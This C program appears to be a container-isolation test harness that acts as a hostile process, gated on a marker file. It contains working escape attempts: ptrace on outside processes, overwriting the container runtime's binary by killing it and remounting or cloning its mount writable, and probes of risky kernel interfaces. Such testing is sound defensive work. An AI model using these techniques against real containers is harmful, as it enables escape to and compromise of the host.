/*
 * What a hostile program in a container does beyond the reach of a shell. Static; the first argument chooses. Each
 * attack prints one line of `name=number` pairs: how often it was tried, and what came of it.
 *
 * It mounts, and kills what it does not know: so it does nothing unless it is in a root file system made for it, which a
 * file with a name of its own tells.
 */
#define MARKER "/.to-be-attacked"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int stop;

static void on_term(int signal) { stop = signal; }

/* The link of a process's executable; empty when it may not be read. */
static const char *executable(int pid)
{
	static char target[4096];
	char path[64];
	snprintf(path, sizeof path, "/proc/%d/exe", pid);
	ssize_t length = readlink(path, target, sizeof target - 1);
	target[length > 0 ? length : 0] = 0;
	return target;
}

/* A program of the container's: its own file, or busybox. */
static int is_ours(const char *path)
{
	return strstr(path, "/busybox") || strstr(path, "/attacker");
}

/* Watches for new processes in its pid namespace and tries to get into each, as long as it runs somebody else's file. */
static void watch_processes(void)
{
	long seen = 0, refused = 0, hits = 0;
	int last = 0;
	while (!stop) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (proc && (entry = readdir(proc))) {
			int pid = atoi(entry->d_name);
			if (pid <= 1)
				continue;
			if (pid > last) {
				last = pid;
				seen++;
			}
			for (int round = 0; round < 20; round++) {
				const char *file = executable(pid);
				if (*file && !is_ours(file)) {
					printf("hit exe %s\n", file);
					hits++;
				}
				if (!*file && (errno == EACCES || errno == EPERM))
					refused++;
				char path[64];
				snprintf(path, sizeof path, "/proc/%d/fd", pid);
				int fds = open(path, O_RDONLY | O_DIRECTORY);
				file = executable(pid);
				if (fds >= 0 && *file && !is_ours(file))
					hits++;
				if (fds >= 0)
					close(fds);
				if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
					file = executable(pid);
					if (*file && !is_ours(file)) {
						printf("hit ptrace %s\n", file);
						hits++;
					}
					/* Only what has stopped can be let go. */
					ptrace(PTRACE_INTERRUPT, pid, 0, 0);
					waitpid(pid, 0, __WALL);
					ptrace(PTRACE_DETACH, pid, 0, 0);
				}
			}
		}
		if (proc)
			closedir(proc);
		while (waitpid(-1, 0, WNOHANG) > 0)
			;
	}
	printf("seen=%ld refused=%ld hits=%ld\n", seen, refused, hits);
}

/* Whether a file can be written to, one way or another. */
static int is_writable(int file)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", file);
	int opened = open(path, O_WRONLY);
	if (opened < 0)
		return 0;
	close(opened);
	return 1;
}

struct attributes {
	uint64_t set, clear, propagation, userns;
};

/* Tries to make the mount a file is on writable, then to write to the file. */
static int overwrite(int file)
{
	struct attributes writable = {.clear = 1 /* MOUNT_ATTR_RDONLY */};
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", file);
	int gained = 0;
	gained |= is_writable(file);
	gained |= syscall(442 /* mount_setattr */, file, "", AT_EMPTY_PATH, &writable, sizeof writable) == 0;
	gained |= mount(0, path, 0, MS_REMOUNT | MS_BIND, 0) == 0;
	int copy = syscall(428 /* open_tree */, file, "", AT_EMPTY_PATH | 1 /* OPEN_TREE_CLONE */);
	if (copy >= 0) {
		syscall(442, copy, "", AT_EMPTY_PATH, &writable, sizeof writable);
		gained |= is_writable(copy);
	}
	gained |= chmod(path, 0777) == 0;
	gained |= is_writable(file);
	return gained;
}

/* Catches the runtime while it runs as a process of the container, by the file it runs, lets it end, and overwrites it. */
static void overwrite_runtime(void)
{
	long reached = 0, gained = 0;
	while (!stop && !reached) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;
		while (proc && (entry = readdir(proc))) {
			int pid = atoi(entry->d_name);
			if (pid <= 1)
				continue;
			char path[64];
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			int file = open(path, O_PATH);
			const char *name = executable(pid);
			if (file < 0 || !*name || is_ours(name)) {
				if (file >= 0)
					close(file);
				continue;
			}
			reached++;
			gained += overwrite(file);
			kill(pid, SIGKILL);
			while (kill(pid, 0) == 0 && waitpid(pid, 0, WNOHANG) <= 0)
				usleep(1000);
			/* Nobody runs it any more: no ETXTBSY now. */
			gained += overwrite(file);
			if (unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0)
				gained += overwrite(file);
			close(file);
			break;
		}
		if (proc)
			closedir(proc);
	}
	printf("reached=%ld gained=%ld\n", reached, gained);
}

#ifdef __x86_64__
/* A system call of 32-bit programs. */
static long old_call(long number, long first, long second)
{
	long result;
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(first), "c"(second) : "memory", "r8", "r9", "r10", "r11");
	return (int)result;
}

/* socket(2) as 32-bit programs call it: through socketcall, with the arguments in memory. */
static long old_socket(int family, int type)
{
	uint32_t *arguments = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	arguments[0] = family;
	arguments[1] = type;
	arguments[2] = 0;
	return old_call(102, 1, (long)arguments);
}
#endif

static int error_of(int result) { return result < 0 ? errno : 0; }

/* What of the kernel's more dangerous parts can be reached. */
static void reach(void)
{
	printf("alg=%d ", error_of(socket(38 /* AF_ALG */, SOCK_SEQPACKET, 0)));
	printf("vsock=%d ", error_of(socket(40, SOCK_STREAM, 0)));
	printf("unix=%d ", error_of(socket(AF_UNIX, SOCK_STREAM, 0)));
	printf("inet=%d ", error_of(socket(AF_INET, SOCK_STREAM, 0)));
#ifdef __x86_64__
	long result = old_socket(AF_UNIX, SOCK_STREAM);
	printf("old_unix=%ld ", result < 0 ? -result : 0);
	result = old_socket(38, SOCK_SEQPACKET);
	printf("old_alg=%ld ", result < 0 ? -result : 0);
	result = old_call(359, 38, SOCK_SEQPACKET);
	printf("old_direct_alg=%ld ", result < 0 ? -result : 0);
#endif
	printf("mount=%d ", error_of(mount("none", "/tmp", "tmpfs", 0, 0)));
	printf("cgroup=%d ", error_of(mount("none", "/tmp", "cgroup", 0, "rdma")));
	printf("user=%d ", error_of(unshare(CLONE_NEWUSER)));
	printf("namespace=%d ", error_of(unshare(CLONE_NEWNS)));
	printf("clone3=%d ", error_of(syscall(435, 0, 0)));
	printf("bpf=%d ", error_of(syscall(321, 0, 0, 0)));
	printf("keyctl=%d ", error_of(syscall(250, 0, 0, 0)));
	printf("handle=%d\n", error_of(syscall(304, -1, 0, 0)));
}

/* The descriptors that are open, without looking at /proc. */
static void list_descriptors(void)
{
	for (int fd = 0; fd < 1024; fd++)
		if (fcntl(fd, F_GETFD) >= 0)
			printf("%d ", fd);
	printf("\n");
}

int main(int count, char **arguments)
{
	const char *attack = count > 1 ? arguments[1] : "";
	struct stat root;
	if (stat(MARKER, &root) != 0) {
		fprintf(stderr, "attacker: not in a container made for it\n");
		return 3;
	}
	setvbuf(stdout, 0, _IOLBF, 0);
	signal(SIGTERM, on_term);
	if (!strcmp(attack, "watch-processes"))
		watch_processes();
	else if (!strcmp(attack, "overwrite-runtime"))
		overwrite_runtime();
	else if (!strcmp(attack, "reach"))
		reach();
	else if (!strcmp(attack, "descriptors"))
		list_descriptors();
	else
		return 2;
	return 0;
}
